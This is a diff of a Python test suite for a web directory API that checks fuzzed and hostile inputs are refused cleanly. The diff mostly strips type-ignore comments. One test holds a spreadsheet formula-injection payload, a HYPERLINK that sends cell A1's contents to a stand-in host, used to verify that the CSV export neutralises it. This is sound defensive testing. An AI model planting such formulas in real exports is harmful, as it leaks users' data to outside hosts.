@@ -1,4 +1,5 @@
-"""No input gets a server error: the edge rule (kernel/fne_kernel/inputs.py) and the cases found by fuzzing."""
+"""No input gets a server error: the edge rule (kernel/fne_kernel/inputs.py) and the cases found by
+fuzzing."""
 
 import pytest
 from httpx import AsyncClient
@@ -20,7 +21,7 @@ EXPORTS = [
 ]
 
 
-def refused(response) -> bool:  # type: ignore[no-untyped-def]
+def refused(response) -> bool:
     return response.status_code == 422 and response.headers["content-type"] == PROBLEM
 
 
@@ -57,7 +58,7 @@ async def test_a_search_of_no_word_answers_the_unfiltered_directory(directory: A
 @pytest.mark.parametrize("escape", ["\\u0000", "\\ud800"])
 async def test_a_json_body_with_a_nul_or_a_lone_surrogate_is_refused_and_nothing_is_stored(
     directory: AsyncClient, identity_keys, communes, db: AsyncSession, escape: str
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     import orjson
 
     body = orjson.dumps(place_payload(nom="PLACEHOLDER")).replace(b"PLACEHOLDER", f"Lieu {escape} x".encode())
@@ -81,13 +82,13 @@ async def test_a_json_body_with_a_nul_or_a_lone_surrogate_is_refused_and_nothing
 )
 async def test_integers_beyond_their_column_are_refused(
     directory: AsyncClient, identity_keys, url: str
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     headers = identity_header(identity_keys[0], user_principal(Role.ADMIN))
     response = await directory.get(url, headers=headers)
     assert response.status_code in (404, 422) and response.headers["content-type"] == PROBLEM, response.text
 
 
-async def test_the_largest_integer_is_still_a_plain_not_found(directory: AsyncClient, identity_keys) -> None:  # type: ignore[no-untyped-def]
+async def test_the_largest_integer_is_still_a_plain_not_found(directory: AsyncClient, identity_keys) -> None:
     headers = identity_header(identity_keys[0], user_principal(Role.ADMIN))
     assert (await directory.get("/sync/enregistrements/2147483647", headers=headers)).status_code == 404
 
@@ -97,7 +98,7 @@ FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'
 
 async def test_the_csv_export_cannot_carry_a_formula_and_the_json_keeps_the_exact_name(
     directory: AsyncClient, identity_keys, communes
-) -> None:  # type: ignore[no-untyped-def]
+) -> None:
     import csv
     import io
 
@@ -121,7 +122,7 @@ async def test_the_csv_export_cannot_carry_a_formula_and_the_json_keeps_the_exac
     assert next(place for place in as_json if place["id"] == created.json()["id"])["nom"] == FORMULA
 
 
-async def test_eight_concurrent_writers_queue_instead_of_failing(databases, identity_keys) -> None:  # type: ignore[no-untyped-def]
+async def test_eight_concurrent_writers_queue_instead_of_failing(databases, identity_keys) -> None:
     from fne_directory.config import Settings
     from fne_directory.main import create_app
     from fne_directory.territories.loader import load_communes
